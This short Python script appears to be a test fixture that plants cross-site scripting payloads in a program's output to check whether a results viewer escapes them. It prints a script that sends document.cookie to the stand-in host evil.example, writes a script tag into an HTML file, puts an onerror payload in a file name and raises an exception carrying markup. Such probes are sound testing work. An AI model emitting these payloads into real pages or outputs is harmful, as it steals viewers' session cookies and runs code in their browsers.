"""Act in the page of whoever reads the result."""

import os

print("<script>fetch('https://evil.example/' + document.cookie)</script>")
open("/artifacts/page.html", "w").write("<script>alert(1)</script>")
open("/artifacts/<img src=x onerror=alert(1)>.txt", "w").write("x")
raise ValueError("<img src=x onerror=alert(1)> & <b>bold</b>")
